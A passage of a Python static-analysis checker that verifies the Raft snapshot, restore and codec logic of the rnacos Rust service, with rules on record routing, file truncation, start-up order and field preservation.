    ck.borrow('rules.c09', {'R09l': 'R01ab'}, 'a snapshot record carries the whole history of a key: the full-value path must store all 100 entries a node served before it stopped, not one fewer')
    ck.borrow('rules.c07', {'R07f': 'R01x'}, 'a snapshot must be labelled with the index of the last entry it contains: last_applied_log advances when the apply is accepted, otherwise the replay after a restart applies an entry twice')
    ck.borrow('rules.c19', {'R19h': 'R01q'}, 'a request served while the restore is still running is applied on top of a state that is about to be overwritten by it')
    ck.borrow('rules.c20', {'R20g': 'R01p'}, 'a snapshot whose header record is longer than one read chunk must still be readable at start-up, otherwise everything it covers is missing after the restart')
    ck.borrow('rules.c08', {'R08h': 'R01k'}, 'the start-up restore loads the catalogued snapshot whatever the last-applied index says')
    ck.borrow('rules.c19', {'R19a': 'R01i', 'R19b': 'R01j'}, 'issued sequence counters are part of the state a restart must reproduce: replay folds every high-water mark, the snapshot stores the reserved end')


def writers(ck, fb):
    """actor self type -> set of tree statics put into SnapshotRecordDto aggregates (None = dynamic)"""
    out = {}
    for b in fb.bodies.values():
        if '::tests::' in b.name or b.name.startswith('rnacos::raft::filestore::model') or b.name.startswith('<rnacos::raft::filestore::model'):
            continue
        for (i, j, s) in b.aggregates(r'filestore::model::SnapshotRecordDto$'):
            rv = s['rv']
            tree = static_of(b, rv['ops'][rv['fields'].index('tree')])
            key = static_of(b, rv['ops'][rv['fields'].index('key')])
            root = fb.bodies[fb.root_of(b.name)]
            out.setdefault(root.self_ty or root.name, []).append((tree, key, b, i))
            ck.analysed(b)
    return out


def r01a(ck, fb):
    ck.rule('R01a', 'snapshot table routing: for every tree constant T written into a SnapshotRecordDto by component A, walking '
                    'load_snapshot with record.tree == T reaches exactly the send(s) to A; an unknown tree reaches no send; the '
                    'config sequence record (T_SEQUENCE, key SEQ_KEY_CONFIG) goes to ConfigActor::InnerSetLastId')
    b = ck.main(RD + 'load_snapshot', 'R01a')
    if not b:
        return
    w = writers(ck, fb)
    ck.floor('R01a', 'components writing snapshot records', len(w), 7)
    # table names the TableManager can hold: statics used as table_name in TableManagerReq aggregates
    table_names = set()
    for x in fb.bodies.values():
        if '::tests::' in x.name:
            continue
        for (i, j, s) in x.aggregates(r'raft::db::table::TableManagerReq$') + x.aggregates(r'raft::db::table::TableManagerQueryReq$'):
            rv = s['rv']
            if 'table_name' in rv['fields']:
                n = static_of(x, rv['ops'][rv['fields'].index('table_name')])
                if n and not n.startswith('str:'):
                    table_names.add(n)
    ck.floor('R01a', 'table names used with TableManager', len(table_names), 2)
    ck.extra['table_names'] = sorted(table_names)
    sends = util.sends(b)

    def route(tree, key_is_config_seq=None):
        def decide(bb, term):
            t, neg = eq_switch_info(b, bb, term)
            if t is None:
                return None
            names = [static_of(b, a) for a in t['args']]
            consts = [n for n in names if n]
            if not consts:
                return None
            n = consts[0]
            if n in ('SEQ_KEY_CONFIG', 'str:SEQ_CONFIG'):
                if key_is_config_seq is None:
                    return None
                val = key_is_config_seq
            elif n.startswith('str:'):
                return None
            else:
                val = (n == tree)
            if neg:
                val = not val
            return bool_labels(term, val)
        r = reach_under(b, decide)
        return [(s, m, v, a) for (s, m, v, a) in sends if s.bb in r]

    actor_of = lambda s: s.gargs[0]
    n_rows = 0
    for actor, recs in sorted(w.items()):
        for (tree, key, wb, bbi) in recs:
            trees = [tree] if tree else sorted(table_names) if 'TableManager' in actor else []
            if not trees:
                ck.bad('R01a', 'writer:%s:dynamic-tree' % actor, wb.where(bbi), 'snapshot record with a tree name the rule cannot resolve')
                continue
            for t in trees:
                n_rows += 1
                is_cfg_seq = (t == 'SEQUENCE_TREE_NAME' and key in ('SEQ_KEY_CONFIG', 'str:SEQ_CONFIG'))
                if t == 'SEQUENCE_TREE_NAME':
                    got = route(t, is_cfg_seq)
                else:
                    got = route(t)
                actors = sorted(set(actor_of(s) for (s, m, v, a) in got))
                ck.require(actors == [actor], 'R01a', 'route:%s:%s%s' % (actor.split('::')[-1], t, ':SEQ_KEY_CONFIG' if is_cfg_seq else ''),
                           wb.where(bbi),
                           'snapshot records of table %s written by %s are routed by load_snapshot to %s: after a restart from a snapshot this '
                           'data is lost or lands in the wrong component' % (t, actor, actors or 'nobody (ignored)'),
                           'routed to %s' % actors)
                if is_cfg_seq:
                    ck.require([v for (s, m, v, a) in got] == ['InnerSetLastId'], 'R01a', 'route:config-seq:InnerSetLastId', wb.where(bbi),
                               'the config sequence high-water mark is not restored through InnerSetLastId')
    ck.floor('R01a', 'routing rows', n_rows, 10)
    got = route('__UNKNOWN_TREE__')
    ck.require(not got, 'R01a', 'route:unknown-tree', b.where(), 'a record of an unknown table is still sent to %s' % [m for (s, m, v, a) in got])
    # every send in load_snapshot is awaited and propagates errors
    for (s, m, v, a) in sends:
        ck.require(s.callee.endswith('::send') and util.awaited(b, s), 'R01a', 'load_snapshot:awaited:%s' % (v or m.split('::')[-1]), s.where(),
                   'snapshot record is sent without awaiting the component (order against the log replay is lost)')
    # config records: key decoded by ConfigKey::from, value by ConfigValueDO::from_bytes
    ck.require(len(b.calls(r'ConfigValueDO::from_bytes$')) == 1 and len(b.calls(r'ConfigKey as std::convert::From<&str>>::from$')) == 1, 'R01a',
               'load_snapshot:config-decoders', b.where(), 'config snapshot records are not decoded with ConfigKey::from / ConfigValueDO::from_bytes')


def r01b(ck, fb):
    ck.rule('R01b', 'fan-out: RaftDataHandler::build_snapshot sends a build-snapshot message to every Addr field (awaited, ??), '
                    'do_load_snapshot feeds every record to load_snapshot until read_record yields None; load_complete notifies every '
                    'actor that handles RaftApplyDataRequest')
    fields = [f for f in fb.adt('rnacos::raft::filestore::raftdata::RaftDataHandler')['variants'][0]['fields']]
    ck.floor('R01b', 'RaftDataHandler actor fields', len(fields), 7)
    b = ck.main(RD + 'build_snapshot', 'R01b')
    if b:
        sent = {}
        for (s, m, v, a) in util.sends(b):
            f = util.recv_fields(b, s)
            sent[f[-1] if f else '?'] = (s, m, v)
        for (fname, fty) in fields:
            ok = fname in sent and (sent[fname][2] == 'BuildSnapshot') and sent[fname][0].callee.endswith('::send') and util.awaited(b, sent[fname][0])
            ck.require(ok, 'R01b', 'build_snapshot:%s' % fname, b.where(),
                       'component %s is not asked (awaited) to write its data into the snapshot: its state is missing after a compaction + restart' % fname)
        # each component's handler for that message reaches a function that creates SnapshotRecordDto / sends Record
    from rn.callgraph import CallGraph
    cg = get_cg(fb)
    for (fname, fty) in fields:
        actor = re.search(r'Addr<(.*)>$', fty).group(1)
        hs = [h for (a, m), h in cg.handlers.items() if a == actor and re.search(r'RaftApplyDataRequest$|ConfigCmd$|TableManagerInnerReq$', m or '')]
        reach = cg.reachable(hs)
        ok = any(fb.bodies[n].aggregates(r'filestore::model::SnapshotRecordDto$') for n in reach if n in fb.bodies)
        ck.require(ok, 'R01b', 'component-writes-records:%s' % fname, '-', 'no handler of %s reaches code that builds snapshot records' % actor)
    d = ck.main(RA + 'StateApplyManager::do_load_snapshot', 'R01b')
    if d:
        rr = d.calls(r'SnapshotReader::read_record$')
        ls = d.calls(re.escape(RD + 'load_snapshot') + '$')
        ok = len(rr) == 1 and len(ls) == 1 and ls[0].bb in cfg.reach_from(d, [d.blocks[ls[0].bb]['t']['t']]) and util.awaited(d, ls[0])
        ck.require(ok, 'R01b', 'do_load_snapshot:loop', d.where(), 'not every record of the snapshot is handed to load_snapshot')
    lc = ck.body(RD + 'load_complete', 'R01b')
    if lc:
        got = set(util.recv_fields(lc, s)[-1] for (s, m, v, a) in util.sends(lc, None, 'LoadCompleted') if util.recv_fields(lc, s))
        need = set()
        for (fname, fty) in fields:
            actor = re.search(r'Addr<(.*)>$', fty).group(1)
            if (actor, 'rnacos::raft::filestore::raftapply::RaftApplyDataRequest') in cg.handlers:
                need.add(fname)
        ck.require(need <= got, 'R01b', 'load_complete:recipients', lc.where(), 'load_complete does not notify %s' % sorted(need - got), sorted(got))


_cg = {}


def get_cg(fb):
    from rn.callgraph import CallGraph
    if id(fb) not in _cg:
        _cg[id(fb)] = CallGraph(fb)
    return _cg[id(fb)]


# classification of every create(true) open in the crate (frozen; a new one fails closed)
OPEN_TABLE = {
    'rnacos::raft::filestore::raftlog::LogInnerManager::init': ('store', 'log file reopened in place (two handles)'),
    'rnacos::raft::filestore::raftindex::RaftIndexInnerManager::init': ('store', 'catalogue reopened in place'),
    'rnacos::raft::filestore::raftindex::RaftIndexManager::try_lock': ('store', 'lock file, never written'),
    'rnacos::raft::filestore::raftsnapshot::SnapshotWriter::init': ('stream', 'snapshot_<id> written from offset 0; id reused after an interrupted build'),
    FSX + 'create_snapshot': ('stream', 'install file snapshot_<id> written from offset 0 by async-raft'),
    'rnacos::transfer::writer::TransferWriter::init': ('export', 'export target chosen by the operator / a fresh temp file; not on the restart path of C01, no constraint'),
    'rnacos::naming::instance_meta_repository::InstanceMetaRepository::new': ('store', 'metadata data files reopened / appended'),
}


def open_chains(b):
    """[(new_site, {method: const_arg})] for OpenOptions builder chains in a body"""
    out = []
    for nw in b.calls(r'fs::OpenOptions::new$|open_options::OpenOptions::new$'):
        if not isinstance(nw.dst, int):
            continue
        t = Taint(b, local_src=[nw.dst])
        methods = {}
        for s in b.calls(r'OpenOptions::(read|write|create|create_new|truncate|append|open)$'):
            if s.args and t.op_tainted(s.args[0]):
                m = s.callee.split('::')[-1]
                val = None
                if len(s.args) > 1:
                    c = op_const(s.args[1])
                    if c is not None and 'v' in c:
                        val = c['v'] in (True, 'true', 1)
                methods[m] = val
        out.append((nw, methods))
    return out


def r01c(ck, fb):
    ck.rule('R01c', 'every OpenOptions chain with create(true) is classified: "stream" (rewritten from offset 0 and read to EOF) must carry '
                    'truncate(true) or create_new(true); "store" (reopened in place) must not truncate; unclassified = fail closed')
    n = 0
    for b in fb.bodies.values():
        if '::tests::' in b.name or '::test_' in b.name:
            continue
        for (nw, m) in open_chains(b):
            if not m.get('create'):
                continue
            n += 1
            root = fb.root_of(b.name)
            ck.analysed(b)
            cls = OPEN_TABLE.get(root)
            if cls is None:
                ck.bad('R01c', 'open:%s:unclassified' % root, nw.where(), 'new create(true) open in %s is not classified as store/stream' % root)
                continue
            trunc = bool(m.get('truncate')) or bool(m.get('create_new'))
            if cls[0] == 'export':
                ck.ok('R01c', 'open:%s:export' % root, nw.where(), cls[1])
            elif cls[0] == 'stream':
                ck.require(trunc, 'R01c', 'open:%s:truncate' % root, nw.where(),
                           '%s opens a file that is rewritten from offset 0 (%s) with create(true) but without truncate(true): when a longer '
                           'file of the same name is left over (interrupted earlier attempt) its tail is read back as records' % (root, cls[1]),
                           'truncated')
            else:
                ck.require(not m.get('truncate'), 'R01c', 'open:%s:no-truncate' % root, nw.where(),
                           '%s reopens a persistent store file with truncate(true): existing data is destroyed on every start' % root, cls[1])
    ck.floor('R01c', 'create(true) opens', n, 6)


def r01d(ck, fb):
    ck.rule('R01d', 'start-up order: load_log is started only from load_snapshot (no-snapshot early branch or the continuation of the '
                    'snapshot future); load_complete only from the continuation of load_log; load_snapshot only from the continuation of '
                    'load_index; each stage registered with ctx.wait; the replay range is [snapshot_next_index, last_applied_log+1)')
    SA = RA + 'StateApplyManager::'
    cg = get_cg(fb)

    def callers_of(name):
        return sorted(set(fb.root_of(c) for c in cg.callers(name)))
    for callee, allowed in ((SA + 'load_log', {SA + 'load_snapshot'}), (SA + 'load_complete', {SA + 'load_log'}),
                            (SA + 'load_snapshot', {SA + 'load_index'}), (SA + 'load_index', {SA + 'init'})):
        if not fb.has(callee):
            ck.body(callee, 'R01d')
            continue
        cs = set(callers_of(callee))
        ck.require(cs == allowed, 'R01d', 'callers:%s' % callee.split('::')[-1], fb.get(callee).where(),
                   '%s is called from %s (expected only %s): replaying the log before the snapshot is loaded resurrects deleted data'
                   % (callee, sorted(cs), sorted(allowed)), sorted(cs))
    for fn in ('load_index', 'load_snapshot', 'load_log'):
        b = ck.body(SA + fn, 'R01d')
        if b:
            ck.require(len(b.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$')) >= 1 and not b.calls(r'ContextFutureSpawner::spawn$'),
                       'R01d', '%s:ctx.wait' % fn, b.where(), 'stage %s is not serialised with ctx.wait' % fn)
    ls = ck.body(SA + 'load_snapshot', 'R01d')
    if ls:
        # in load_snapshot itself load_log is only called on the early-return branch (guarded) ; continuation closure calls it after the future
        direct = ls.calls(re.escape(SA + 'load_log') + '$')
        waits = ls.calls(r'ContextFutureSpawner::wait$|AsyncContext::wait$')
        for s in direct:
            after = cfg.reach_from(ls, [ls.blocks[s.bb]['t']['t']])
            early = not any(w.bb in after for w in waits)
            bypass = any(w.bb in cfg.reach_from(ls, [0], blocked_blocks={s.bb}) for w in waits)
            ck.require(early and bypass, 'R01d', 'load_snapshot:direct-load_log-is-early-return', s.where(),
                       'load_log is started directly in load_snapshot on a path that also starts the snapshot future')
        conts = [x for x in fb.tree(SA + 'load_snapshot')[1:] if x.calls(re.escape(SA + 'load_log') + '$')]
        ck.require(len(conts) >= 1, 'R01d', 'load_snapshot:continuation-calls-load_log', ls.where(), 'no continuation of the snapshot future starts load_log')
        futs = [x for x in fb.tree(SA + 'load_snapshot')[1:] if x.calls(r'StateApplyManager::do_load_snapshot$')]
        ck.require(len(futs) >= 1, 'R01d', 'load_snapshot:loads', ls.where(), 'the snapshot future does not call do_load_snapshot')
    ll = ck.body(SA + 'load_log', 'R01d')
    if ll:
        inner = [x for x in fb.tree(SA + 'load_log')]
        sd = [(x, s, a) for x in inner for (s, m, v, a) in util.sends(x, r'RaftLogManagerAsyncRequest$', 'Load')]
        ck.require(len(sd) >= 1, 'R01d', 'load_log:Load', ll.where(), 'replay request not sent')
        # start/end values computed in the outer fn: start <- snapshot_next_index, end <- last_applied_log + 1
        t1 = Taint(ll, place_src=field_place_src('snapshot_next_index'))
        t2 = Taint(ll, place_src=field_place_src('last_applied_log'))
        cl = [x for x in ll.closures_created()]
        ok1 = ok2 = False
        for (i, j, st, d) in cl:
            for o in st['rv']['ops']:
                ok1 = ok1 or t1.op_tainted(o)
                ok2 = ok2 or t2.op_tainted(o)
        ck.require(ok1 and ok2, 'R01d', 'load_log:range', ll.where(), 'replay range is not [snapshot_next_index, last_applied_log+1)')
    li = fb.tree(SA + 'load_index') if fb.has(SA + 'load_index') else []
    w = set()
    for x in li:
        w |= util.assigned_fields(x, r'StateApplyManager$')
    ck.require({'snapshot_next_index', 'last_applied_log'} <= w, 'R01d', 'load_index:sets-range', li[0].where() if li else '-',
               'load_index does not take snapshot end / last applied from the catalogue (%s)' % sorted(w))


# persisted value codecs: (encoder body regex, decoder body regex, value struct, fields that must be read by the encoder and set by the decoder)
CODECS = [
    ('config value', r'^<rnacos::config::model::ConfigValueDO as std::convert::From<rnacos::config::core::ConfigValue>>::from$',
     r'^<rnacos::config::core::ConfigValue as std::convert::From<rnacos::config::model::ConfigValueDO>>::from$',
     {'content', 'histories', 'config_type', 'desc'}, {'content', 'md5', 'histories', 'config_type', 'desc'}),
]


def r01e(ck, fb):
    ck.rule('R01e', 'codec field coverage (only removals are reported): the encoder still reads and the decoder still sets every field '
                    'persisted on the pinned tree, for ConfigValue<->ConfigValueDO, ConfigHistoryItem<->DO, Namespace<->NamespaceDO, '
                    'Instance<->InstanceDo, DirectCacheItemDo, sequence ids (id_to_bin / bin_to_id)')
    for (what, enc_rx, dec_rx, enc_fields, dec_fields) in CODECS:
        enc = fb.impls(r'^std::convert::From$', r'ConfigValueDO$', r'config::core::ConfigValue$', 'from')
        dec = fb.impls(r'^std::convert::From$', r'config::core::ConfigValue$', r'ConfigValueDO$', 'from')
        ck.require(len(enc) == 1 and len(dec) == 1, 'R01e', '%s:codec-present' % what, '-', 'encoder/decoder of %s not found' % what)
        if enc:
            e = enc[0]
            ck.analysed(e)
            agg = [s for b in fb.tree(e.name) for (i, j, s) in b.aggregates(r'ConfigValueDO$')]
            srcs = set()
            for b in fb.tree(e.name):
                srcs |= util.read_fields(b, r'ConfigValue$')
            ck.require(enc_fields <= srcs, 'R01e', '%s:encoder-reads' % what, e.where(),
                       'encoder of %s no longer reads %s: the field is dropped by every snapshot' % (what, sorted(enc_fields - srcs)), sorted(srcs))
        if dec:
            d = dec[0]
            ck.analysed(d)
            got = set()
            for (i, j, s) in d.aggregates(r'config::core::ConfigValue$'):
                rv = s['rv']
                for f, o in zip(rv['fields'], rv['ops']):
                    c = op_const(o)
                    if f in ('config_type', 'desc', 'histories', 'content') and c is not None and 'fn' not in c:
                        continue
                    got.add(f)
                # config_type/desc must come from the DO, not from a constant None
                t = Taint(d, local_src=[1])
                for f in ('content', 'histories', 'config_type', 'desc'):
                    o = rv['ops'][rv['fields'].index(f)]
                    ck.require(t.op_tainted(o), 'R01e', '%s:decoder:%s<-DO' % (what, f), d.where(i),
                               'decoded %s.%s does not come from the stored value' % (what, f))
            ck.require(dec_fields <= got, 'R01e', '%s:decoder-sets' % what, d.where(), 'decoder of %s no longer sets %s' % (what, sorted(dec_fields - got)))
    # generic DO pairs: to_do/from_do style functions keep their field sets (floors counted on the pinned tree)
    pairs = [
        ('rnacos::naming::model::Instance::to_do', r'InstanceDo$', 8),
        ('rnacos::naming::model::Instance::from_do', r'naming::model::Instance$', 8),
    ]
    for (fn, adt_rx, floor) in pairs:
        if not fb.has(fn):
            ck.bad('R01e', 'anchor:' + fn, '-', 'codec function %s not found' % fn)
            continue
        b = fb.get(fn)
        ck.analysed(b)
        n = 0
        for x in fb.tree(fn):
            for (i, j, s) in x.aggregates(adt_rx):
                n = max(n, len(s['rv']['fields']))
        ck.require(n >= floor, 'R01e', '%s:fields' % fn.split('::')[-2] + '::' + fn.split('::')[-1], b.where(),
                   '%s builds a value with %d fields (pinned tree: >= %d)' % (fn, n, floor), '%d fields' % n)
    # ephemeral flag, ip, port, weight, enabled, healthy, metadata survive instance encode/decode
    for fn, src_rx in (('rnacos::naming::model::Instance::to_do', r'naming::model::Instance$'), ('rnacos::naming::model::Instance::from_do', r'InstanceDo$')):
        if fb.has(fn):
            rf = set()
            for x in fb.tree(fn):
                rf |= util.read_fields(x, src_rx)
            need = {'ip', 'port', 'weight', 'enabled', 'healthy', 'ephemeral', 'cluster_name', 'service_name', 'group_name', 'metadata', 'namespace_id'}
            ck.require(need <= rf, 'R01e', '%s:reads' % fn.split('::')[-1], fb.get(fn).where(), '%s no longer carries %s' % (fn, sorted(need - rf)), sorted(rf))
    # sequence ids: written with id_to_bin and read with bin_to_id(_result)
    for fn, rx in (('rnacos::sequence::core::SequenceDbManager::build_snapshot', r'byte_utils::id_to_bin$'),
                   ('rnacos::sequence::core::SequenceDbManager::load_snapshot_record', r'byte_utils::bin_to_id(_result)?$'),
                   ('rnacos::config::core::ConfigActor::build_snapshot', r'byte_utils::id_to_bin$')):
        b = ck.body(fn, 'R01e')
        if b:
            ck.require(len(b.calls(rx)) >= 1, 'R01e', '%s:id-codec' % fn.split('::')[-2], b.where(), '%s no longer uses the 8 byte id codec' % fn)


# persisted-state codecs (snapshot records, log records, catalogue): function -> (target type regex, fields that may be filled without the input,
# one reason each). Any OTHER field of the built value that is not derived from the function's input is reported: it would be dropped /
# defaulted by every snapshot, log entry or restart.
ELEMENT_FILTER_OK = set()
LITERAL_ALT_OK = {
    ('From<ConfigValueDO>forConfigValue', 'last_modified'): 'derived from the newest history item; 0 when there is none',
}
CODEC_TABLE = [
    ('rnacos::cache::model::CacheValue::to_do', r'DirectCacheItemDo$', {'timeout': 'filled by the caller from the cache entry'}),
    ('rnacos::mcp::model::mcp::McpServer::from_do', r'mcp::McpServer$', {}),
    ('rnacos::mcp::model::mcp::McpServer::to_do', r'McpServerDo$', {}),
    ('rnacos::mcp::model::mcp::McpServerValue::from_do', r'mcp::McpServerValue$', {}),
    ('rnacos::mcp::model::mcp::McpServerValue::to_do', r'McpServerValueDo$', {}),
    ('rnacos::mcp::model::tools::McpTool::to_do', r'McpToolDo$', {}),
    ('rnacos::mcp::model::tools::ToolSpec::to_do', r'McpToolSpecDo$', {}),
    ('rnacos::mcp::model::tools::ToolSpecVersion::to_do', r'ToolSpecVersionDo$', {}),
    ('rnacos::naming::model::Instance::from_do', r'naming::model::Instance$',
     {'last_modified_millis': 'restart time', 'register_time': 'restart time', 'from_grpc': 'persistent instances are not connection bound',
      'from_cluster': 'local', 'client_id': 'no connection'}),
    ('rnacos::naming::model::Instance::to_do', r'InstanceDo$', {}),
    ('rnacos::raft::filestore::model::LogRecordDto::to_record_do', r'log::LogRecord$', {}),
    ('rnacos::raft::filestore::model::RaftIndexDto::to_record_do', r'log::RaftIndex$', {}),
    ('rnacos::raft::filestore::model::SnapshotHeaderDto::to_record_do', r'log::SnapshotHeader$', {'extend': 'unused extension bytes'}),
    ('rnacos::raft::filestore::model::SnapshotRecordDto::to_record_do', r'log::LogSnapshotItem$', {}),
]
CODEC_FROM = [  # (self type regex, from type regex, target adt regex, allowed)
    (r'config::model::ConfigHistoryItemDO$', r'config::model::HistoryItem$', r'ConfigHistoryItemDO$', {}),
    (r'config::model::HistoryItem$', r'ConfigHistoryItemDO$', r'config::model::HistoryItem$', {}),
    (r'config::model::ConfigValueDO$', r'config::core::ConfigValue$', r'ConfigValueDO$', {}),
    (r'config::core::ConfigValue$', r'ConfigValueDO$', r'config::core::ConfigValue$', {'tmp': 'a persisted value is never temporary'}),
    (r'namespace::model::Namespace$', r'NamespaceDO$', r'namespace::model::Namespace$', {}),
    (r'namespace::model::NamespaceDO$', r'namespace::model::Namespace$', r'NamespaceDO$', {}),
    (r'raft::cache::model::CacheItemDo$', r'raft::cache::model::CacheValue$', r'CacheItemDo$', {'timeout': 'filled by the caller'}),
    (r'filestore::model::LogRecordDto$', r'log::LogRecord', r'LogRecordDto$', {}),
    (r'filestore::model::SnapshotHeaderDto$', r'log::SnapshotHeader', r'SnapshotHeaderDto$', {}),
    (r'filestore::model::SnapshotRecordDto$', r'log::LogSnapshotItem', r'SnapshotRecordDto$', {}),
    (r'filestore::model::RaftIndexDto$', r'log::RaftIndex', r'RaftIndexDto$', {}),
    (r'user::model::UserDto$', r'user::model::UserDo$', r'UserDto$', {'password': 'never exposed'}),
    (r'mcp::model::tools::ToolSpec$', r'McpToolSpecDo', r'ToolSpecVersion$', {'ref_count': 'recomputed'}),
    (r'mcp::model::tools::McpSimpleTool$', r'McpToolDo', r'McpSimpleTool$', {}),
]


def _codec_row(ck, fb, b, adt_rx, allowed, key):
    best = None
    for x in fb.tree(b.name):
        for (i, j, st) in x.aggregates(adt_rx):
            rv = st['rv']
            if best is None or len(rv['fields']) > len(best[1]['fields']):
                best = (x, rv, i)
    if best is None:
        ck.bad('R01f', key + ':value', b.where(), 'codec %s no longer builds a %s value' % (b.name, adt_rx))
        return
    x, rv, i = best
    t = Taint(x, local_src=list(range(1, x.argc + 1)), mut_args=True)
    lost = [f for f, o in zip(rv['fields'], rv['ops']) if not t.op_tainted(o) and f not in allowed]
    # node_addrs style fields filled by a loop: must still be written from the input somewhere in the function
    for f in list(allowed):
        if 'loop' in allowed[f] or 'repeated' in allowed[f]:
            src = any(f in util.assigned_fields(y) or any(f in [e for e in util.recv_fields(y, s)] for s in y.calls(r'::(insert|push)$')) for y in fb.tree(b.name))
            if not src:
                lost.append(f)
    # R01r: a numeric / bool field that is carried is carried verbatim - never replaced by a literal on some path (a "default" for a value the
    # encoder writes as it is makes the served value change across a snapshot: weight 0 -> 1, port 0 -> 8080, false -> true)
    for f, o in zip(rv['fields'], rv['ops']):
        if f in allowed or (key, f) in LITERAL_ALT_OK:
            continue
        d = cfg.describe_operand(x, o)
        if d['k'] != 'multi':
            continue
        p = facts_op_place(o)
        ty = x.local_ty(p) if isinstance(p, int) else ''
        if not re.match(r'^(f32|f64|u8|u16|u32|u64|usize|i8|i16|i32|i64|isize|bool)$', ty or ''):
            continue
        lits = [dbb for (kind, dbb, dj, node) in d.get('defs', []) if kind == 'stmt' and node['rv']['k'] in ('use', 'cast') and 'c' in node['rv']['op']]
        ck.require(not lits, 'R01r', key + ':' + f, x.where(lits[0]) if lits else x.where(i),
                   'codec %s replaces the %s field `%s` by a literal on some path: a value the other side writes verbatim comes back different '
                   'after a snapshot / restart (e.g. a stored 0 read back as a default)' % (b.name, ty, f), 'carried on every path')
    # R01v: every element of a repeated field is carried: a push / insert inside the loop over the input's elements is unconditional
    for y in fb.tree(b.name):
        for s1 in y.calls(r'Vec::<T, A>::push$|HashMap::<K, V, S, A>::insert$|BTreeMap::<K, V, A>::insert$|HashSet::<T, S, A>::insert$'):
            atoms = cfg.guard_atoms(y, s1.bb)
            if not any(a[0] == 'variant' and a[2] == 'Some' and 'Iterator>::next' in cfg.fmt_desc(a[3]) for a in atoms):
                continue
            extra = [cfg.fmt_atom(a) for a in atoms if not (a[0] in ('variant', 'notvariant', 'variantin') and
                                                            re.search(r'Iterator>::next|Try>::branch', cfg.fmt_atom(a)))]
            extra = [e for e in extra if (key, e) not in ELEMENT_FILTER_OK]
            if not extra and util.loop_can_skip(y, s1.bb)[1] and (key, 'skip') not in ELEMENT_FILTER_OK:
                extra = ['a condition inside the loop (an iteration can pass without carrying its element)']
            ck.require(not extra, 'R01v', key + ':every-element', s1.where(),
                       'codec %s carries an element of a repeated field only if %s: the elements for which that does not hold are dropped by every '
                       'save / snapshot / restart (a node address saved before its node is a member is forgotten by the next reopen)' % (b.name, extra),
                       'unconditional')
    ck.require(not lost, 'R01f', key, x.where(i),
               'codec %s fills %s of the persisted value without using its input: the field is dropped / reset by every snapshot, log entry or restart' % (b.name, lost),
               '%d fields carried' % (len(rv['fields']) - len([f for f in rv['fields'] if f in allowed])))


def r01f(ck, fb):
    ck.rule('R01v', 'repeated fields are carried element by element: in every codec of R01f a push / insert inside the loop over the input\'s '
                    'elements is not guarded by anything but the iteration and error propagation')
    ck.rule('R01r', 'persisted numeric / bool fields are carried verbatim by every codec of R01f: the operand of such a field is never a value that a '
                    'branch replaces by a literal (a decoder default for a value the encoder writes as it is changes what is served after a restart)')
    ck.rule('R01f', 'persisted-value codecs carry every field: in each encoder/decoder on the snapshot / log / catalogue path every field of the value '
                    'it builds is derived from the function input, except a frozen list of fields with a stated reason')
    n = 0
    for (fn, adt_rx, allowed) in CODEC_TABLE:
        if not fb.has(fn):
            ck.bad('R01f', 'anchor:' + fn, '-', 'codec function %s not found' % fn)
            continue
        n += 1
        ck.analysed(fn)
        _codec_row(ck, fb, fb.get(fn), adt_rx, allowed, fn.split('::')[-2] + '::' + fn.split('::')[-1])
    for (self_rx, from_rx, adt_rx, allowed) in CODEC_FROM:
        bs = [b for b in fb.impls(r'^std::convert::From$', self_rx, from_rx, 'from') if not b.parent]
        if len(bs) != 1:
            ck.bad('R01f', 'anchor:From<%s> for %s' % (from_rx, self_rx), '-', 'codec impl not found (%d candidates)' % len(bs))
            continue
        n += 1
        ck.analysed(bs[0])
        _codec_row(ck, fb, bs[0], adt_rx, allowed, 'From<%s>for%s' % (from_rx.strip('$').split('::')[-1], self_rx.strip('$').split('::')[-1]))
    ck.floor('R01f', 'codec functions', n, 26)


def r01l(ck, fb):
    ck.rule('R01l', 'what a component writes into the snapshot is what it was told to keep: NamespaceActor::build_snapshot writes a per-entry record '
                    'only for namespaces that carry the USER flag (flag & USER != 0). Weak namespaces (present only because a config or a service '
                    'references them) are rebuilt from those references; written to the snapshot they come back as user-created, i.e. a namespace '
                    'the user deleted reappears for good after compaction + restart')
    b = ck.body('rnacos::namespace::NamespaceActor::build_snapshot', 'R01l')
    if not b:
        return
    n = 0
    for (i, j, st) in b.aggregates(r'filestore::model::SnapshotRecordDto$'):
        atoms = cfg.guard_atoms(b, i)
        in_loop = any(a[0] == 'variant' and a[2] == 'Some' and 'Iterator>::next' in cfg.fmt_desc(a[3]) for a in atoms)
        if not in_loop:
            continue
        n += 1
        ok = False
        for a in atoms:
            if a[0] != 'cmp' or a[1] not in ('Eq', 'Ne'):
                continue
            for side, other in ((a[2], a[3]), (a[3], a[2])):
                if side.get('k') == 'bin' and side.get('op') == 'BitAnd' and other.get('k') == 'const' and str(other['c'].get('v')) == '0':
                    fl = [cfg.origin_fields(b, side['a'])[-1:], cfg.origin_fields(b, side['b'])[-1:]]
                    user = 'USER' in cfg.fmt_desc(cfg.describe_operand(b, side['a'])) + cfg.fmt_desc(cfg.describe_operand(b, side['b'])) or True
                    if ['flag'] in fl and ((a[1] == 'Eq' and a[4] is False) or (a[1] == 'Ne' and a[4] is True)) and user:
                        ok = True
        ck.require(ok, 'R01l', 'namespace:snapshot-only-user-namespaces', b.where(i),
                   'a namespace record is written to the snapshot without the test flag & USER != 0: namespaces that only exist as weak references '
                   '(or that the user deleted while still referenced) are stored and reloaded as user-created')
    ck.floor('R01l', 'per-entry namespace records', n, 1)


def r01m(ck, fb):
    ck.rule('R01m', 'a marker record is not data: NamespaceActor::build_snapshot stores its "old data already synced" mark as a namespace record with '
                    'the reserved id ALREADY_SYNC_FROM_CONFIG_KEY; on the load path (set_namespace) the branch that recognises that id sets the '
                    'flag and does not reach the insert into `data` / `id_order_list`. Otherwise a namespace "__already_sync" is served after every '
                    'compaction + restart that was never served before')
    b = ck.body('rnacos::namespace::NamespaceActor::set_namespace', 'R01m')
    if not b:
        return
    marker_edges = []
    for (src, dst, lab, term) in cfg.switch_edges(b):
        d = cfg.describe_operand(b, term['discr'])
        neg = False
        while d['k'] == 'un' and d['op'] == 'Not':
            neg = not neg
            d = cfg.describe_operand(b, d['a'])
        if d['k'] != 'call' or not re.search(r'::(eq|ne)$', cfg.callee_name(d['term']) or ''):
            continue
        strs = []
        for a in d['term'].get('args') or []:
            da = cfg.strip_calls(b, cfg.describe_operand(b, a))
            if da['k'] == 'const' and 's' in da['c']:
                strs.append(da['c']['s'])
        if '__already_sync' not in strs:
            continue
        pol = cfg.edge_polarity(term, lab)
        if neg:
            pol = not pol
